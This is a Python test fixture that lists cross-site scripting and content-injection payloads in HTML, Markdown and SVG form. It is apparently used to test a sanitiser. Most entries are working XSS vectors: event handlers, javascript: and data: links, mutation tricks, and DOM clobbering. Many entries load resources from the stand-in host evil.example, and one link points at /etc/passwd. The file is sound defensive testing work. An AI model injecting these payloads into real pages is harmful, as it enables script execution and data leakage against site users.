"""
What strangers put into Markdown, HTML and SVG to run, fetch or bend something on a page.

Each would be seen if it worked: it calls ``alert``, writes to ``window.pwned``, asks ``http://evil.example`` or moves
the page. Used by the tests of the sanitiser and, all on one page, in Chromium.
"""

from __future__ import annotations

EVIL = "http://evil.example"

HTML = {
    "script": f"<script>window.pwned=1;fetch('{EVIL}/script')</script>",
    "script in upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onerror": f"<img src={EVIL}/img onerror=alert(1)>",
    "onload svg": "<svg onload=alert(1)><circle r=9></svg>",
    "javascript link": "<a id=jslink href='javascript:alert(1)'>klick</a>",
    "javascript with tab": "<a href='jav&#9;ascript:alert(1)'>klick</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>klick</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>klick</a>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=9 y=9>x</text></a></svg>",
    "foreignObject": "<svg><foreignObject><body onload=alert(1)></body></foreignObject></svg>",
    "svg use": f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    "style element": f"<style>@import '{EVIL}/style.css'; body{{background:url({EVIL}/bg)}}</style>",
    "style attribute": f"<p style=\"background:url('{EVIL}/attr')\">x</p>",
    "expression": "<p style='width:expression(alert(1))'>x</p>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/meta'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "iframe": f"<iframe src={EVIL}/iframe></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "form": f"<form action={EVIL}/form><button id=send autofocus>x</button></form>",
    "formaction": f"<button formaction='{EVIL}/fa'>x</button>",
    "base": f"<base href='{EVIL}/'>",
    "object": f"<object data='{EVIL}/object'></object>",
    "embed": f"<embed src='{EVIL}/embed'>",
    "link": f"<link rel=stylesheet href='{EVIL}/link.css'><link rel=prefetch href='{EVIL}/prefetch'>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "mathml link": "<math href='javascript:alert(1)'>x</math>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript mutation": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "textarea mutation": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "title mutation": "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'></svg>",
    "comment mutation": "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "cdata mutation": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": f"<video><source onerror=alert(1) src={EVIL}/video></video><audio src={EVIL}/audio autoplay></audio>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "body": "<body onload=alert(1) background=http://evil.example/body>",
    "input": "<input autofocus onfocus=alert(1)>",
    "contenteditable": "<p contenteditable onfocus=alert(1) autofocus tabindex=1>x</p>",
    "srcset": f"<img srcset='{EVIL}/srcset 1x'>",
    "picture": f"<picture><source srcset='{EVIL}/picture'><img></picture>",
    "clobbering": "<a id=inhalt name=location>x</a><form name=document></form>",
    "target": f"<a href='{EVIL}/opener' target=_blank rel=opener>x</a>",
    "protocol relative": "<a href='//evil.example/pr'>x</a><img src='//evil.example/pri'>",
    "null byte": "<scr\0ipt>alert(1)</scr\0ipt><img\0src=x\0onerror=alert(1)>",
    "broken quotes": "<img src='x\" onerror=alert(1) '\">",
    "bidi": "<a href='https://bank.example/\u202emoc.live'>\u202esicher</a>",
    "portal": f"<portal src='{EVIL}/portal'></portal>",
    "custom element": "<x onclick=alert(1) onmouseover=alert(1) is=button>x</x>",
}  # fmt: skip

MARKDOWN = {
    "javascript link": "[klick](javascript:alert(1))",
    "javascript in entities": "[klick](&#106;avascript:alert(1))",
    "data link": "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "autolink": "<javascript:alert(1)>",
    "reference": "[klick]\n\n[klick]: javascript:alert(1)",
    "foreign picture": f"![x]({EVIL}/md)",
    "picture with handler": f'![x"onerror="alert(1)]({EVIL}/md2)',
    "title that breaks out": "[x](https://a.example/ '\"onmouseover=\"alert(1)')",
    "fence that breaks out": '```"><script>alert(1)</script>\nx\n```',
    "table": "| a | b |\n|:--|--:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "heading": "# <img src=x onerror=alert(1)>",
    "inline code": "`</code><script>alert(1)</script>`",
    "relative link": "[x](../../../etc/passwd) [y](//evil.example/rel) [z](#inhalt)",
    "html block": "<div>\n\n<script>alert(1)</script>\n\n</div>",
}

SVG = {
    "script": "<script>alert(1)</script>",
    "handler": '<rect width="9" height="9" onload="alert(1)" onclick="alert(1)"/>',
    "foreign picture": f'<image href="{EVIL}/svg-image" width="9" height="9"/>',
    "foreignObject": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
    "animate": '<a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a>',
    "set": '<rect width="9" height="9"><set attributeName="onmouseover" to="alert(1)"/></rect>',
    "use": f'<use href="{EVIL}/x.svg#a"/>',
    "use data": '<use href="data:image/svg+xml,&lt;svg id=&apos;x&apos;&gt;&lt;/svg&gt;#x"/>',
    "style element": f"<style>@import url({EVIL}/svg.css); * {{ fill: url({EVIL}/fill) }}</style>",
    "style attribute": f'<rect width="9" height="9" style="fill:url({EVIL}/fill2)"/>',
    "fill address": f'<rect width="9" height="9" fill="url( \'{EVIL}/fill3#a\' )"/>',
    "filter": f'<rect width="9" height="9" filter="url({EVIL}/f.svg#f)"/>',
    "escaped address": '<rect width="9" height="9" fill="u\\72l(http://evil.example/esc)"/>',
    "link": '<a href="javascript:alert(1)"><text y="9">x</text></a>',
    "xlink": '<use xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://evil.example/x#a"/>',
    "other namespace": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "handler element": '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
    "metadata": "<metadata><script>alert(1)</script></metadata>",
}  # fmt: skip


def svg(inside: str, *, before: str = "") -> str:
    """Put something into a picture."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10" viewBox="0 0 20 10">'
    return f'{before}{head}<circle cx="5" cy="5" r="4"/>{inside}</svg>'
